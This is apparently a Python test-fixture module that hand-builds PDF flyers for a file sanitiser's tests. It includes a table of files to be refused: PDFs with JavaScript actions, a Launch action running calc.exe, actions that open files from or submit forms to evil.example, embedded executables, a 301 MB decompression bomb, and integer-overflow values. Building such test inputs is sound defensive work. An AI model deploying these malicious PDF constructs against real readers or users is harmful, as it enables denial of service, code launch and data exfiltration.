"""PDFs written by hand: as programs export them, and as nobody should."""

import zlib
from io import BytesIO

from pypdf import PdfReader
from pypdf.generic import DictionaryObject, IndirectObject, PdfObject

from tests.newsletters.pictures.samples import photograph

CATALOG = "<< /Type /Catalog /Pages 2 0 R {catalog} >>"
TREE = "<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>"
PAGE = (
    "<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>{resources} >>"
    " {page} >>"
)
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
WORDS = b"BT /F1 24 Tf 72 700 Td (Tea on Friday) Tj ET"


def stream(data: bytes, words: str = "") -> bytes:
    return f"<< {words} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def packed(data: bytes, words: str = "") -> bytes:
    return stream(zlib.compress(data, 9), f"/Filter /FlateDecode {words}")


def bomb() -> bytes:
    """Write a stream of 301 MB: what a full flush ends can be repeated without packing it again."""
    packer = zlib.compressobj()
    megabyte = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    return stream(megabyte[:2] + megabyte[2:] * 301, "/Filter /FlateDecode")


def pdf(objects: list[bytes | str], trailer: str = "") -> bytes:
    written, places = bytearray(b"%PDF-1.4\n"), list[int]()
    for number, item in enumerate(objects, start=1):
        places.append(len(written))
        body = item.encode() if isinstance(item, str) else item
        written += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    begun, size = len(written), len(objects) + 1
    rows = "".join(f"{place:010} 00000 n \n" for place in places)
    table = f"xref\n0 {size}\n0000000000 65535 f \n{rows}"
    end = f"trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n{begun}\n%%EOF\n"
    return bytes(written) + (table + end).encode()


def flyer(
    *more: bytes | str,
    catalog: str = "",
    page: str = "",
    resources: str = "",
    words: bytes = WORDS,
    trailer: str = "",
) -> bytes:
    """Write a flyer of one page; what is added is numbered from 6."""
    return pdf(
        [
            CATALOG.format(catalog=catalog), TREE, PAGE.format(page=page, resources=resources),
            stream(words), FONT, *more,
        ],
        trailer,
    )  # fmt: skip


def of_pages(number: int) -> bytes:
    kids = " ".join(["3 0 R"] * number)
    tree = TREE.replace("[3 0 R]", f"[{kids}]").replace("/Count 1", f"/Count {number}")
    return pdf(
        [CATALOG.format(catalog=""), tree, PAGE.format(page="", resources=""), stream(WORDS), FONT]
    )


def tagged() -> bytes:
    """Write a flyer whose words have an order for screen readers, with a link among them."""
    return flyer(
        "<< /Type /StructTreeRoot /K 7 0 R /ParentTree 9 0 R >>",
        "<< /Type /StructElem /S /Document /P 6 0 R /T (Ada’s secret) /K [8 0 R] >>",
        "<< /Type /StructElem /S /H1 /P 7 0 R /Pg 3 0 R /K [0 << /Type /OBJR /Obj 10 0 R >>] >>",
        "<< /Nums [0 [8 0 R] 1 8 0 R] >>",
        "<< /Type /Annot /Subtype /Link /Rect [72 700 99 720] /StructParent 1"
        " /A << /S /URI /URI (https://example.org/tea) >> >>",
        catalog="/MarkInfo << /Marked true >> /StructTreeRoot 6 0 R /Lang (en-US)",
        page="/StructParents 0 /Annots [10 0 R]",
        words=b"/H1 << /MCID 0 >> BDC " + WORDS + b" EMC",
    )


def talkative() -> bytes:
    """Write a flyer that says by whom, with what and where it was made, in each of its places."""
    about = b"<x:xmpmeta>Ada Lovelace</x:xmpmeta>"
    shot = stream(
        photograph(),
        "/Type /XObject /Subtype /Image /Width 60 /Height 40 /ColorSpace /DeviceRGB"
        " /BitsPerComponent 8 /Filter /DCTDecode /Metadata 6 0 R /PieceInfo << /Ada 6 0 R >>",
    )
    page = (
        "/Metadata 6 0 R /PieceInfo << /Ada << /LastModified (D:2026) >> >> /Thumb 7 0 R"
        " /LastModified (D:20261126 Ada) /Resources << /Font << /F1 5 0 R >>"
        " /XObject << /Im 7 0 R >> >>"
    )
    return pdf(
        [
            CATALOG.format(catalog="/Metadata 6 0 R /Ada (Ada) /Names << /Dests 8 0 R >>"),
            TREE,
            f"<< /Type /Page /Parent 2 0 R /Contents 4 0 R {page} >>",
            stream(WORDS + b" /Im Do", "/Ada (Ada Lovelace)"),
            FONT,
            packed(about, "/Type /Metadata /Subtype /XML"),
            shot,
            "<< /Names [(Ada) [3 0 R /Fit]] >>",
            "<< /Author (Ada Lovelace) /Title (Ada) /Producer (Ada) >>",
        ],
        "/Info 9 0 R /ID [<416461> <416461>]",
    )


def link(address: str) -> str:
    return f"<< /Type /Annot /Subtype /Link /Rect [1 1 9 9] /A << /S /URI /URI ({address}) >> >>"


def note(kind: str, words: str = "") -> str:
    return f"/Annots [<< /Type /Annot /Subtype /{kind} /Rect [1 1 9 9] {words} >>]"


def table(words: str) -> bytes:
    """Write a flyer whose table of places is a stream (ISO 32000, 7.5.8), and says this."""
    content = flyer()
    places = packed(b"\0" * 70, f"/Type /XRef /Root 1 0 R {words}")
    begun = len(content)
    return content + b"9 0 obj\n" + places + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % begun


def picture_of(size: str) -> bytes:
    return stream(photograph(), f"/Subtype /Image {size} /Filter /DCTDecode")


def predicted(how: str) -> bytes:
    """Write a stream in two packings, of which the first says how its rows are predicted."""
    hows = f"/DecodeParms [<< /Predictor 12 {how} >> null]"
    return stream(zlib.compress(b"\0" * 9999), f"/Filter [/FlateDecode /DCTDecode] {hows}")


SHOWN = "/Group << /G 6 0 R >>"
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LOCKED = flyer(
    "<< /Filter /Standard /V 1 /R 2 /P -4 /O <" + "00" * 32 + "> /U <" + "00" * 32 + "> >>",
    trailer="/Encrypt 6 0 R /ID [<00> <00>]",
)
# Files that are refused, by why.
REFUSED: dict[str, tuple[bytes, str]] = {
    "words": (b"Tea on Friday", "strange"),
    "large": (flyer() + b"\0" * 5_000_000, "large"),
    "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 40, "damaged"),
    "cut off": (flyer()[:200], "damaged"),
    "no page": (pdf([CATALOG.format(catalog=""), "<< /Type /Pages /Kids [] >>"]), "damaged"),
    "locked": (LOCKED, "locked"),
    "a script at the start": (flyer(catalog=f"/OpenAction {SCRIPT}"), "acts"),
    "a script by name": (
        flyer(catalog=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"), "acts",
    ),
    "a script after a link": (
        flyer(page=note("Link", f"/A << /S /URI /URI (https://a.org) /Next {SCRIPT} >>")), "acts",
    ),
    "a script in a list": (
        flyer(catalog=f"/OpenAction << /S /GoTo /Next [<< /S /Named >> {SCRIPT}] >>"), "acts",
    ),
    "acts that follow each other in a circle": (
        flyer("<< /S /GoTo /Next 6 0 R >>", catalog="/OpenAction 6 0 R"), "acts",
    ),
    "acts when it closes": (flyer(catalog=f"/AA << /WC {SCRIPT} >>"), "acts"),
    "a page that acts": (flyer(page=f"/AA << /O {SCRIPT} >>"), "acts"),
    "a link that acts": (flyer(page=note("Link", f"/AA << /E {SCRIPT} >>")), "acts"),
    "starts a program": (
        flyer(page=note("Link", "/A << /S /Launch /F (calc.exe) >>")), "acts",
    ),
    "opens another file": (
        flyer(page=note("Link", "/A << /S /GoToR /F (//evil.example/x.pdf) >>")), "acts",
    ),
    "sends a form": (
        flyer(page=note("Widget", "/A << /S /SubmitForm /F (https://evil.example) >>")), "acts",
    ),
    "a form of its own": (flyer(stream(b"<xdp/>"), catalog="/AcroForm << /XFA 6 0 R >>"), "acts"),
    "a film": (flyer(page=note("RichMedia")), "acts"),
    "a file inside": (
        flyer(catalog="/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << >> >>] >> >>"),
        "carries",
    ),
    "a file on a page": (flyer(page=note("FileAttachment")), "carries"),
    "a portfolio": (flyer(catalog="/Collection << /View /D >>"), "carries"),
    "a comment": (flyer(page=note("Text", "/Contents (Ada: really?)")), "comments"),
    "a text box": (flyer(page=note("FreeText", "/Contents (Tea)")), "comments"),
    "a form field": (flyer(page=note("Widget", "/FT /Tx /T (name)")), "comments"),
    "too many pages": (of_pages(21), "pages"),
    "pages without end": (
        pdf([CATALOG.format(catalog=""), "<< /Type /Pages /Kids [2 0 R 2 0 R] >>"]), "damaged",
    ),
    "nested without end": (
        flyer(page="/Group << /G " + "[" * 5000 + "]" * 5000 + " >>"), "damaged",
    ),
    "cut off after its page": (flyer()[:-20], "damaged"),
    "a bomb": (flyer(bomb(), page="/Group 6 0 R"), "heavy"),
    "a picture of too many pixels": (
        flyer(
            stream(photograph(), "/Subtype /Image /Width 65000 /Height 65000 /Filter /DCTDecode"),
            page="/Group << /G 6 0 R >>",
        ),
        "heavy",
    ),
    "no JPEG": (
        flyer(stream(b"%!PS evil", "/Filter /DCTDecode"), page="/Group << /G 6 0 R >>"), "damaged",
    ),
    "which nobody can open once it is written anew": (
        flyer() + b"".join(b"%d 0 obj 1 endobj\n" % number for number in range(20, 200_000))
        + b"trailer<</Root 1 0 R>>\n%%EOF", "damaged",
    ),
    "packed in an unknown way": (
        flyer(stream(b"x", "/Filter /Crypt"), page="/Group << /G 6 0 R >>"), "damaged",
    ),
}  # fmt: skip


# Numbers that no program writes, for which a reader could ask for memory without end, and why such
# a file is refused; nothing where its page can be shown.
FALSE_NUMBERS: dict[str, tuple[bytes, str]] = {
    "a table of negative widths": (table("/W [1 -4 2] /Size 9"), ""),
    "a table of large widths": (table("/W [1 2147483647 2] /Size 9"), ""),
    "a table of negative rows": (table("/W [1 4 2] /Size 9 /Index [0 -2147483648]"), ""),
    "a table of many rows": (table("/W [1 4 2] /Size 2147483647"), ""),
    "a picture of negative width": (
        flyer(picture_of("/Width -65000 /Height 65000"), page=SHOWN), "heavy",
    ),
    "a picture of negative size": (
        flyer(picture_of("/Width -65000 /Height -65000"), page=SHOWN), "heavy",
    ),
    "negative columns": (
        flyer(predicted("/Columns -2147483648 /Colors -4 /BitsPerComponent -8"), page=SHOWN),
        "damaged",
    ),
    "many columns": (
        flyer(predicted("/Columns 2147483647 /Colors 32 /BitsPerComponent 16"), page=SHOWN),
        "damaged",
    ),
    "a length below zero": (flyer("<< /Length -5 >>\nstream\nx\nendstream", page=SHOWN), ""),
    "fonts of negative size": (
        flyer("<< /Type /Font /FirstChar -2147483648 /Widths [-1] >>", page=SHOWN), "",
    ),
}  # fmt: skip


def read(content: bytes) -> PdfReader:
    return PdfReader(BytesIO(content), strict=True)


def at(item, *path):
    for step in path:
        item = item[step].get_object()
    return item


def all_of(content: bytes) -> list[PdfObject]:
    """List what can be reached in a file, each once, streams unpacked into the dictionary."""
    reader, found, seen = read(content), list[PdfObject](), set[int]()
    waiting: list[PdfObject] = [reader.trailer]
    while waiting:
        item = waiting.pop()
        if isinstance(item, IndirectObject):
            if item.idnum in seen:
                continue
            seen.add(item.idnum)
            item = item.get_object() or reader.trailer
        found.append(item)
        if isinstance(item, DictionaryObject):
            waiting += item.values()
        elif isinstance(item, list):
            waiting += item
    return found
